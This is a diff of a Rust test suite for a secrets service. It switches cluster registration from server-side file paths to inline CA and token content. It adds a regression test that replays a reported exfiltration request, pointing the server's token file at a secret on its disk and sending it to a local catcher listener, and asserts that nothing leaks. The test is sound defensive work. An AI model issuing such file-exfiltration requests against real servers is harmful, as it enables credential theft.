@@ -607,8 +607,8 @@ async fn every_attack_is_refused_over_https_with_its_gate_named_and_audited() {
             Some(json!({
                 "name": "prod",
                 "api_server_url": s.cluster.dev.url(),
-                "ca_bundle": s.cluster.dir.path().join("ca.pem"),
-                "token_file": s.cluster.dir.path().join("reader.token"),
+                "ca_pem": std::fs::read_to_string(s.cluster.dir.path().join("ca.pem")).unwrap(),
+                "reader_token": std::fs::read_to_string(s.cluster.dir.path().join("reader.token")).unwrap(),
             })),
         )
         .await;
@@ -1522,8 +1522,8 @@ impl Suite {
             Some(json!({
                 "name": "prod",
                 "api_server_url": self.cluster.dev.url(),
-                "ca_bundle": self.cluster.dir.path().join("ca.pem"),
-                "token_file": self.cluster.dir.path().join("reader.token"),
+                "ca_pem": std::fs::read_to_string(self.cluster.dir.path().join("ca.pem")).unwrap(),
+                "reader_token": std::fs::read_to_string(self.cluster.dir.path().join("reader.token")).unwrap(),
             })),
         )
         .await;
@@ -2034,8 +2034,8 @@ fn registration(s: &Suite, url: &str, extra: Value) -> Value {
     let mut body = json!({
         "name": "prod",
         "api_server_url": url,
-        "ca_bundle": s.cluster.dir.path().join("ca.pem"),
-        "token_file": s.cluster.dir.path().join("reader.token"),
+        "ca_pem": std::fs::read_to_string(s.cluster.dir.path().join("ca.pem")).unwrap(),
+        "reader_token": std::fs::read_to_string(s.cluster.dir.path().join("reader.token")).unwrap(),
     });
     for (k, v) in extra.as_object().unwrap() {
         body[k] = v.clone();
@@ -2425,5 +2425,224 @@ async fn the_cluster_ca_is_pinned_at_registration_and_changed_only_with_replace(
     assert!(exported_detail(&text, "action", "cluster_replace"));
     assert!(exported_detail(&text, "old_ca_sha256", &pinned.join(",")));
     assert!(exported_detail(&text, "ca_sha256", &other.join(",")));
+    s.running.take().unwrap().shutdown().await.unwrap();
+}
+
+/// An HTTPS listener of an admin's own, with its own CA (the one the
+/// stand-in uses to make its certificate, freshly generated): it records
+/// every request head it is sent and answers 401.
+struct Catcher {
+    url: String,
+    ca_pem: String,
+    heads: std::sync::Arc<Mutex<Vec<String>>>,
+    task: tokio::task::JoinHandle<()>,
+}
+
+impl Catcher {
+    async fn start() -> Self {
+        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+        let tls = podseal_dev_cluster::tls::generate().unwrap();
+        let acceptor = tokio_rustls::TlsAcceptor::from(tls.server_config);
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("https://{}", listener.local_addr().unwrap());
+        let heads = std::sync::Arc::new(Mutex::new(Vec::new()));
+        let seen = heads.clone();
+        let task = tokio::spawn(async move {
+            while let Ok((inbound, _)) = listener.accept().await {
+                let (acceptor, seen) = (acceptor.clone(), seen.clone());
+                tokio::spawn(async move {
+                    let Ok(mut stream) = acceptor.accept(inbound).await else {
+                        return;
+                    };
+                    let mut head = Vec::new();
+                    let mut buffer = [0u8; 4096];
+                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                        match stream.read(&mut buffer).await {
+                            Ok(0) | Err(_) => break,
+                            Ok(n) => head.extend_from_slice(buffer.get(..n).unwrap_or_default()),
+                        }
+                    }
+                    seen.lock()
+                        .unwrap()
+                        .push(String::from_utf8_lossy(&head).into_owned());
+                    let _ = stream
+                        .write_all(b"HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
+                        .await;
+                    let _ = stream.shutdown().await;
+                });
+            }
+        });
+        Self {
+            url,
+            ca_pem: tls.ca_pem,
+            heads,
+            task,
+        }
+    }
+
+    /// Every request head received so far, joined.
+    fn received(&self) -> String {
+        self.heads.lock().unwrap().join("\n")
+    }
+}
+
+impl Drop for Catcher {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
+}
+
+/// Issue 21, item 5: an admin request cannot make the server read a file
+/// of its choosing, or send one's content anywhere. Before, `cluster add`
+/// took `ca_bundle` and `token_file` as paths on the server's machine, and
+/// the server sent the token file's content as `Authorization: Bearer …`
+/// to the `api_server_url` of the same request: a one-line file holding a
+/// PostgreSQL URL with its password reached a listener of the caller's own.
+/// Now no field names a path: the old fields are unknown (400), a path put
+/// where content goes is taken as content (not a CA, not read), and the
+/// listener receives no byte of the file.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_admin_request_cannot_make_the_server_read_a_file_or_send_its_content() {
+    let s = Suite::start().await;
+    let catcher = Catcher::start().await;
+    let secret_file = s.state.path().join("database.url");
+    let password = "s3cr3t-from-the-servers-disk";
+    std::fs::write(
+        &secret_file,
+        format!("postgres://podseal:{password}@db/podseal\n"),
+    )
+    .unwrap();
+    let ca_file = s.state.path().join("catcher-ca.pem");
+    std::fs::write(&ca_file, &catcher.ca_pem).unwrap();
+    let authorization = format!("Bearer {}", s.admin_token);
+    let post = async |body: Value| {
+        s.send(
+            Method::POST,
+            "/v1/admin/clusters",
+            "/v1/admin/clusters",
+            &[("authorization", &authorization)],
+            Some(serde_json::to_vec(&body).unwrap()),
+        )
+        .await
+    };
+
+    // The request of the report: server-side paths for the CA and the token.
+    let answer = post(json!({
+        "name": "exfil",
+        "api_server_url": catcher.url,
+        "ca_bundle": ca_file,
+        "token_file": secret_file,
+        "allow_broad_token": true,
+    }))
+    .await;
+    let received = catcher.received();
+    assert!(
+        !received.contains(password),
+        "the server read a file the request named and sent its content: {received}"
+    );
+    let problem: Value = serde_json::from_slice(&answer.body).unwrap_or_default();
+    assert_eq!(answer.status, 400, "{problem}");
+    assert_eq!(problem["reason"], "malformed_body", "{problem}");
+    assert_eq!(received, "", "nothing was sent anywhere");
+
+    // Paths where content goes are content: not a CA, and never opened.
+    let answer = post(json!({
+        "name": "exfil",
+        "api_server_url": catcher.url,
+        "ca_pem": ca_file,
+        "reader_token": secret_file,
+        "allow_broad_token": true,
+    }))
+    .await;
+    let problem: Value = serde_json::from_slice(&answer.body).unwrap_or_default();
+    assert_eq!(answer.status, 400, "{problem}");
+    assert!(
+        problem["detail"]
+            .as_str()
+            .unwrap()
+            .starts_with("ca_pem: the CA bundle holds no PEM certificate"),
+        "{problem}"
+    );
+
+    // With the listener's CA as content and the file's path as the token,
+    // the server presents that path, the caller's own bytes, and nothing else.
+    let answer = post(json!({
+        "name": "exfil",
+        "api_server_url": catcher.url,
+        "ca_pem": catcher.ca_pem,
+        "reader_token": secret_file,
+        "allow_broad_token": true,
+    }))
+    .await;
+    assert!(!answer.status.is_success(), "{}", answer.status);
+    let received = catcher.received();
+    assert!(
+        received.contains(&format!("Bearer {}", secret_file.display())),
+        "the listener was contacted with the token as given: {received}"
+    );
+    assert!(!received.contains(password), "{received}");
+    assert!(!received.contains("postgres://"), "{received}");
+    let listed = s
+        .admin(
+            Method::GET,
+            "/v1/admin/clusters",
+            "/v1/admin/clusters",
+            None,
+        )
+        .await;
+    assert_eq!(listed["clusters"], json!([]), "{listed}");
+    s.check_statuses();
+}
+
+/// The reader token is a credential: `cluster show` (and `-o json`, which
+/// is the same body) never returns it, nor a path; the store holds it and a
+/// restart connects with it, with no file left anywhere to read.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_reader_token_is_stored_never_shown_and_needs_no_file() {
+    let mut s = Suite::start().await;
+    let token = s.cluster.dev.reader_token().to_owned();
+    let added = s
+        .admin(
+            Method::POST,
+            "/v1/admin/clusters",
+            "/v1/admin/clusters",
+            Some(json!({
+                "name": "prod",
+                "api_server_url": s.cluster.dev.url(),
+                "ca_pem": s.cluster.dev.ca_pem(),
+                "reader_token": format!("{token}\n"),
+            })),
+        )
+        .await;
+    // No file of the cluster's is left: what the server holds is its own.
+    std::fs::remove_dir_all(s.cluster.dir.path()).unwrap();
+    s.restart().await;
+    let shown = s
+        .admin(
+            Method::GET,
+            "/v1/admin/clusters/{name}",
+            "/v1/admin/clusters/prod",
+            None,
+        )
+        .await;
+    for body in [&added, &shown] {
+        let text = body.to_string();
+        assert!(!text.contains(&token), "{text}");
+        assert!(body.get("token_file").is_none() && body.get("ca_bundle").is_none());
+    }
+    let (_, key) = s.api_key("shop", "api").await;
+    s.policy("api", &[digest('a')], false).await;
+    s.create_pod("api-0", "api", vec![], vec![image("api", Some('a'))], true);
+    until_running(&s).await;
+    let pod = s.pod("api-0", "api");
+    let capsule = s.capsule("prod", "shop", "api");
+    let session = s.open_session(&pod, &key).await;
+    let (pending, answer) = s.unwrap_pending(&pod, &key, &session, &capsule).await;
+    assert_eq!(
+        Suite::open_pending(&pod, &pending, &capsule, &answer),
+        SECRET
+    );
+    let text = s.audit_export().await;
+    assert!(!text.contains(&token), "the audit log holds the token");
     s.running.take().unwrap().shutdown().await.unwrap();
 }
